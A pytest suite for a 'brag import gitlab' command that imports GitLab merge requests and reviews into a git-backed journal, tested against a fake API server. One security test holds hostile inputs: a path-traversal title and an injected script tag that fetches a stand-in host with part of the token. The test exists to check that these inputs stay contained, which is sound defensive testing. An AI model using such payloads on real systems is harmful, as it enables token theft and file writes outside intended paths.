"""``brag import gitlab`` against a real HTTP server speaking GitLab's REST API v4."""

from __future__ import annotations

import datetime as dt
import shutil

import pytest
from fakeapis import FakeGitLab, entries, head, load, record_waits

TOKEN = "glpat-test-SECRET456"
D = dt.date


@pytest.fixture
def waits(monkeypatch) -> list[float]:
    return record_waits(monkeypatch)


@pytest.fixture
def gitlab(httpserver, monkeypatch, waits) -> FakeGitLab:
    monkeypatch.setenv("GITLAB_TOKEN", TOKEN)
    monkeypatch.setenv("BRAG_HTTP_BACKOFF", "0.01")
    monkeypatch.setenv("BRAG_HTTP_MAX_WAIT", "5")
    return FakeGitLab(token=TOKEN).register(httpserver)


@pytest.fixture
def api(httpserver) -> str:
    return httpserver.url_for("/api/v4")


def window(*extra: str) -> tuple[str, ...]:
    return ("--since", "2026-01-01", "--until", "2026-03-31", *extra)


def test_imports_merged_mrs_following_x_next_page(brag, journal, gitlab, api, git_run):
    gitlab.add(
        "acme/platform/api",
        45,
        "Shard the jobs table",
        D(2026, 2, 3),
        description="**Impact:** nightly batch finishes 3 h earlier.\n\nDetails below.",
        labels=["database", "backend"],
    )
    for n in range(1, 230):
        gitlab.add("acme/web", n, f"Polish screen {n}", D(2026, 1, 1) + dt.timedelta(days=n % 80))
    result = brag("import", "gitlab", "--api-url", api, *window())
    assert "gitlab: added 230, already present 0, skipped 0" in result.output
    pages = [r.get("page", "1") for r in gitlab.requests]
    assert pages == ["1", "2", "3"]
    first = gitlab.requests[0]
    assert first["scope"] == "all" and first["state"] == "merged"
    assert first["author_username"] == "jdoe"  # from GET /user
    assert first["updated_after"].startswith("2026-01-01T00:00:00")
    assert git_run(journal.root, "log", "-1", "--format=%s").strip() == (
        "brag: import 230 entries from gitlab"
    )
    e = load(journal)["acme/platform/api!45"]
    assert e.title == "Shard the jobs table"
    assert e.date == D(2026, 2, 3)
    assert e.tags == ["api", "database", "backend"]
    assert e.impact == "nightly batch finishes 3 h earlier."
    assert e.url == "https://gitlab.example.com/acme/platform/api/-/merge_requests/45"
    assert e.source == "gitlab"


def test_merged_outside_the_window_is_left_out(brag, journal, gitlab, api):
    # Updated in the window (a late comment), merged long before it.
    gitlab.add("acme/web", 1, "Old", D(2025, 6, 1), updated=D(2026, 2, 1))
    gitlab.add("acme/web", 2, "New", D(2026, 2, 1))
    brag("import", "gitlab", "--api-url", api, *window())
    assert set(load(journal)) == {"acme/web!2"}


def test_empty_result(brag, journal, gitlab, api):
    result = brag("import", "gitlab", "--api-url", api, *window())
    assert "gitlab: added 0, already present 0, skipped 0" in result.output
    assert entries(journal.root) == []


def test_rate_limit_429_with_retry_after(brag, journal, gitlab, api, httpserver, waits):
    gitlab.add("acme/web", 1, "One", D(2026, 2, 1))
    httpserver.expect_oneshot_request("/api/v4/merge_requests").respond_with_data(
        "Retry later",
        status=429,
        headers={
            "Retry-After": "1",
            "RateLimit-Limit": "600",
            "RateLimit-Observed": "601",
            "RateLimit-Remaining": "0",
            "RateLimit-Name": "throttle_authenticated_api",
        },
    )
    result = brag("import", "gitlab", "--api-url", api, *window())
    assert "GitLab: rate limited (HTTP 429); waiting 1 s" in result.stderr
    assert waits == [1.0]
    assert set(load(journal)) == {"acme/web!1"}


def test_502_then_success(brag, journal, gitlab, api, httpserver):
    gitlab.add("acme/web", 1, "One", D(2026, 2, 1))
    httpserver.expect_oneshot_request("/api/v4/merge_requests").respond_with_data(
        "502 Bad Gateway", status=502
    )
    result = brag("import", "gitlab", "--api-url", api, "--user", "jdoe", *window())
    assert "GitLab: /api/v4/merge_requests?" in result.stderr and "HTTP 502; retrying" in (
        result.stderr
    )
    assert set(load(journal)) == {"acme/web!1"}


def test_malformed_json_commits_nothing(brag, journal, gitlab, api, httpserver, git_run):
    for n in range(1, 150):
        gitlab.add("acme/web", n, f"MR {n}", D(2026, 2, 1))
    before = head(git_run, journal.root)
    httpserver.expect_ordered_request("/api/v4/merge_requests").respond_with_handler(gitlab.list)
    httpserver.expect_ordered_request("/api/v4/merge_requests").respond_with_data(
        '[{"id": 1, "iid": ', content_type="application/json"
    )
    result = brag("import", "gitlab", "--api-url", api, "--user", "jdoe", *window(), expect=1)
    assert "body that is not valid JSON; nothing was imported" in result.output
    assert "Traceback" not in result.output
    assert head(git_run, journal.root) == before
    assert entries(journal.root) == []


def test_revoked_token(brag, journal, gitlab, api, monkeypatch, git_run):
    before = head(git_run, journal.root)
    monkeypatch.setenv("GITLAB_TOKEN", "glpat-test-EXPIRED000")
    result = brag("import", "gitlab", "--api-url", api, expect=1)
    assert result.output.strip().splitlines()[-1] == (
        "Error: GitLab: the token was rejected (HTTP 401): token revoked or invalid; "
        "check GITLAB_TOKEN (it may have expired)"
    )
    assert head(git_run, journal.root) == before


def test_missing_token(brag, journal, api, monkeypatch):
    monkeypatch.delenv("GITLAB_TOKEN", raising=False)
    result = brag("import", "gitlab", "--api-url", api, expect=1)
    assert "Error: GitLab: no token found: set GITLAB_TOKEN" in result.output


def test_rerun_and_user_edits(brag, journal, gitlab, api, git_run):
    gitlab.add("acme/web", 1, "One", D(2026, 2, 1))
    gitlab.add("acme/web", 2, "Two", D(2026, 2, 2))
    brag("import", "gitlab", "--api-url", api, *window())
    edited = load(journal)["acme/web!1"]
    brag("edit", edited.id, "--title", "Rewrote checkout")
    commits = git_run(journal.root, "rev-list", "--count", "HEAD")
    result = brag("import", "gitlab", "--api-url", api, *window())
    assert "gitlab: added 0, already present 2" in result.output
    assert load(journal)["acme/web!1"].title == "Rewrote checkout"
    assert len(entries(journal.root)) == 2
    assert git_run(journal.root, "rev-list", "--count", "HEAD") == commits


def test_dry_run_writes_nothing(brag, journal, gitlab, api, git_run):
    gitlab.add("acme/web", 1, "One", D(2026, 2, 1))
    before = head(git_run, journal.root)
    result = brag("import", "gitlab", "--api-url", api, *window("--dry-run"))
    assert "gitlab: would add 1" in result.output
    assert head(git_run, journal.root) == before and entries(journal.root) == []


def test_resume_from_last_run(brag, journal, gitlab, api):
    gitlab.add("acme/web", 1, "One", D(2026, 2, 1))
    brag("import", "gitlab", "--api-url", api, "--since", "2026-01-01", "--until", "2026-02-15")
    gitlab.add("acme/web", 2, "Two", D(2026, 3, 1))
    result = brag("import", "gitlab", "--api-url", api)
    assert gitlab.requests[-1]["updated_after"].startswith("2026-02-14T00:00:00")
    assert "added 1" in result.output
    assert set(load(journal)) == {"acme/web!1", "acme/web!2"}


def test_projects_groups_and_labels(brag, journal, gitlab, api):
    gitlab.add("acme/api", 1, "Api", D(2026, 2, 1))
    gitlab.add("acme/web", 2, "Web", D(2026, 2, 1), labels=["chore"])
    gitlab.add("tools/cli", 3, "Cli", D(2026, 2, 1))
    gitlab.add("elsewhere/x", 4, "X", D(2026, 2, 1))
    result = brag(
        "import",
        "gitlab",
        "--api-url",
        api,
        *window("--repo", "tools/cli", "--org", "acme", "--exclude-label", "Chore"),
    )
    assert set(load(journal)) == {"acme/api!1", "tools/cli!3"}
    assert "skipped 1 (1 label 'chore' excluded)" in result.output
    paths = {r["path"] for r in gitlab.requests}
    assert paths == {
        "/api/v4/projects/tools%2Fcli/merge_requests",
        "/api/v4/groups/acme/merge_requests",
    }


def test_self_managed_host_alone_means_api_v4_and_config_is_read(brag, journal, gitlab, httpserver):
    gitlab.add("acme/web", 1, "One", D(2026, 2, 1))
    brag("config", "set", "import.gitlab.api_url", httpserver.url_for("/").rstrip("/"))
    # A host named only in (synced) brag.toml must be approved on this machine.
    refused = brag("import", "gitlab", *window(), expect=1)
    assert "brag config --machine approved_hosts localhost" in refused.stderr
    from brag import machine

    machine.add_to_list("approved_hosts", f"localhost:{httpserver.port}")
    result = brag("import", "gitlab", *window())
    assert "gitlab: added 1" in result.output


def test_untrusted_text_and_token_stay_out(brag, journal, gitlab, api, git_run):
    gitlab.add(
        "acme/web",
        1,
        "../../../../tmp/evil",
        D(2026, 2, 1),
        description=f"<script>fetch('//x?{TOKEN[:6]}')</script>",
    )
    result = brag("import", "gitlab", "--api-url", api, *window())
    (path,) = entries(journal.root)
    assert path.resolve().is_relative_to((journal.root / "entries").resolve())
    assert load(journal)["acme/web!1"].title == "../../../../tmp/evil"
    for p in journal.root.rglob("*"):
        if p.is_file():
            assert TOKEN.encode() not in p.read_bytes()
    assert TOKEN not in git_run(journal.root, "log", "-p", "--all")
    assert TOKEN not in result.output + result.stderr


def test_brag_import_runs_every_configured_source_and_reports_each_failure(
    brag, journal, gitlab, api, monkeypatch, tmp_path, git_run
):
    gitlab.add("acme/web", 1, "One", D(2026, 2, 1))
    brag("config", "set", "import.gitlab.api_url", api)
    from brag import machine

    machine.add_to_list("approved_hosts", "localhost")  # brag.toml's host, approved here
    brag("config", "set", "import.github.user", "octocat")  # configured, but no token
    bindir = tmp_path / "only-git"  # git, but no gh CLI to lend a GitHub token
    bindir.mkdir()
    (bindir / "git").symlink_to(shutil.which("git"))
    monkeypatch.setenv("PATH", str(bindir))
    result = brag("import", *window(), expect=1)
    assert "github: failed: GitHub: no token found" in result.stderr
    assert "gitlab: added 1" in result.output
    assert set(load(journal)) == {"acme/web!1"}


# -- --reviews: merge requests the user reviewed ----------------------------------------


def on_day(monkeypatch, day: dt.date) -> None:
    """Make the review importer believe today is ``day`` (which weeks are finished)."""
    monkeypatch.setattr("brag.plugins._remote.today", lambda: day)


def reviewed(gitlab, project, iid, title, merged, author="alice", **kw):
    return gitlab.add(project, iid, title, merged, author=author, reviewers=["jdoe"], **kw)


def review_requests(gitlab) -> list[dict[str, str]]:
    return [r for r in gitlab.requests if "reviewer_username" in r]


def test_reviews_one_entry_per_reviewed_mr(brag, journal, gitlab, api):
    gitlab.add("acme/api", 1, "My own change", D(2026, 3, 4))
    reviewed(gitlab, "acme/platform/api", 12, "Add retries to the webhook sender", D(2026, 3, 4))
    reviewed(gitlab, "acme/web", 30, "fix: dark mode contrast", D(2026, 3, 5), author="bob")
    reviewed(gitlab, "acme/web", 31, "Bump lodash", D(2026, 3, 5), author="renovate-bot",
             author_bot=True)  # fmt: skip
    reviewed(gitlab, "acme/web", 32, "Old, touched lately", D(2026, 1, 5), updated=D(2026, 3, 5))
    gitlab.add("acme/web", 33, "Not reviewed by me", D(2026, 3, 5), author="bob")
    result = brag(
        "import", "gitlab", "--api-url", api, "--since", "2026-03-04", "--until", "2026-03-31",
        "--reviews",
    )  # fmt: skip
    assert "gitlab: added 3, already present 0, skipped 1 (1 authored by a bot)" in result.output
    found = load(journal)
    assert set(found) == {"acme/api!1", "review:acme/platform/api!12", "review:acme/web!30"}
    e = found["review:acme/platform/api!12"]
    assert e.title == "Reviewed Add retries to the webhook sender"
    assert found["review:acme/web!30"].title == "Reviewed fix: dark mode contrast"
    assert e.leverage == "interpersonal"
    assert e.tags == ["review", "api"]
    assert e.with_ == ["alice"]
    assert e.url == "https://gitlab.example.com/acme/platform/api/-/merge_requests/12"
    assert e.date == D(2026, 3, 4)
    from brag.impact import tree_for

    assert tree_for(e) == "B"
    (asked,) = review_requests(gitlab)
    assert asked["scope"] == "all" and asked["state"] == "merged"
    assert asked["reviewer_username"] == "jdoe"
    assert asked["updated_after"].startswith("2026-03-02T00:00:00")  # that week's Monday


def test_busy_week_rolls_up_only_once_finished(brag, journal, gitlab, api, monkeypatch):
    reviewed(gitlab, "acme/api", 10, "Last week's change", D(2026, 3, 24))
    authors = ["alice", "bob", "alice", "carol", "dave", "bob", "erin"]
    for n, author in enumerate(authors):
        day = D(2026, 3, 30) + dt.timedelta(days=n % 3)
        reviewed(gitlab, "acme/api", 40 + n, f"Change {n}", day, author=author)
    brag("config", "set", "import.gitlab.reviews", "true")
    on_day(monkeypatch, D(2026, 4, 1))  # a Wednesday in 2026-W14
    result = brag("import", "gitlab", "--api-url", api, "--since", "2026-03-23")
    assert "added 1, already present 0, skipped 7 (7 week 2026-W14 still in progress" in (
        result.output
    )
    assert set(load(journal)) == {"review:acme/api!10"}
    on_day(monkeypatch, D(2026, 4, 8))
    result = brag("import", "gitlab", "--api-url", api, "--since", "2026-03-31")
    assert "added 1, already present 0, skipped 0" in result.output
    found = load(journal)
    assert set(found) == {"review:acme/api!10", "reviews:2026-W14"}
    week = found["reviews:2026-W14"]
    assert week.title == "Reviewed 7 merge requests in week 2026-W14"
    # Everyone whose work was reviewed, in the order of their first merge that week.
    assert week.with_ == ["alice", "carol", "erin", "bob", "dave"]
    assert week.tags == ["review", "api"]
    assert "- [acme/api!46](https://gitlab.example.com/acme/api/-/merge_requests/46) Change 6" in (
        week.body
    )


def test_reviews_rerun_and_later_runs_never_rewrite(brag, journal, gitlab, api, git_run):
    for n in range(3):  # 2026-W10: imported one by one
        reviewed(gitlab, "acme/api", 10 + n, f"Small {n}", D(2026, 3, 2))
    for n in range(6):  # 2026-W11: rolled up
        reviewed(gitlab, "acme/api", 20 + n, f"Busy {n}", D(2026, 3, 9))
    brag("config", "set", "import.gitlab.api_url", api)
    from brag import machine

    machine.add_to_list("approved_hosts", "localhost")  # brag.toml's host, approved here
    brag("config", "set", "import.gitlab.reviews", "true")
    args = ("import", "--since", "2026-03-02", "--until", "2026-03-15")
    assert "gitlab: added 4" in brag(*args).output
    files = {p: p.read_bytes() for p in entries(journal.root)}
    commits = git_run(journal.root, "rev-list", "--count", "HEAD")
    result = brag(*args, expect=3)
    assert "gitlab: added 0, already present 4, skipped 0" in result.output
    assert git_run(journal.root, "rev-list", "--count", "HEAD") == commits
    for n in range(4):
        reviewed(gitlab, "acme/api", 30 + n, f"Late {n}", D(2026, 3, 3))
    reviewed(gitlab, "acme/api", 40, "Late for the roll-up", D(2026, 3, 10))
    assert "gitlab: added 5, already present 4" in brag(*args).output
    found = load(journal)
    assert "reviews:2026-W10" not in found and "review:acme/api!40" in found
    for path, data in files.items():
        assert path.read_bytes() == data, path


def test_own_merge_requests_are_not_reviews(brag, journal, gitlab, api):
    gitlab.add("acme/api", 5, "Mine", D(2026, 3, 3), reviewers=["jdoe", "alice"])
    reviewed(gitlab, "acme/api", 7, "Theirs", D(2026, 3, 4))
    result = brag(
        "import", "gitlab", "--api-url", api, "--since", "2026-03-02", "--until", "2026-03-08",
        "--reviews",
    )  # fmt: skip
    assert set(load(journal)) == {"acme/api!5", "review:acme/api!7"}
    assert "skipped 1 (1 your own merge request)" in result.output


def test_review_list_rate_limit_waits_and_continues(brag, journal, gitlab, api, waits):
    reviewed(gitlab, "acme/api", 7, "Theirs", D(2026, 3, 4))
    gitlab.review_rate_limits = 1
    result = brag(
        "import", "gitlab", "--api-url", api, "--since", "2026-03-02", "--until", "2026-03-08",
        "--reviews",
    )  # fmt: skip
    assert waits == [3.0]
    assert "GitLab: rate limited (HTTP 429); waiting 3 s" in result.stderr
    assert set(load(journal)) == {"review:acme/api!7"}


def test_reviews_follow_x_next_page(brag, journal, gitlab, api):
    for n in range(150):
        reviewed(
            gitlab, "acme/api", 100 + n, f"Change {n}", D(2026, 2, 2) + dt.timedelta(days=n % 20)
        )
    result = brag(
        "import", "gitlab", "--api-url", api, "--since", "2026-02-02", "--until", "2026-02-22",
        "--reviews", "--review-rollup", "100",
    )  # fmt: skip
    assert "gitlab: added 150" in result.output
    assert [r.get("page", "1") for r in review_requests(gitlab)] == ["1", "2"]
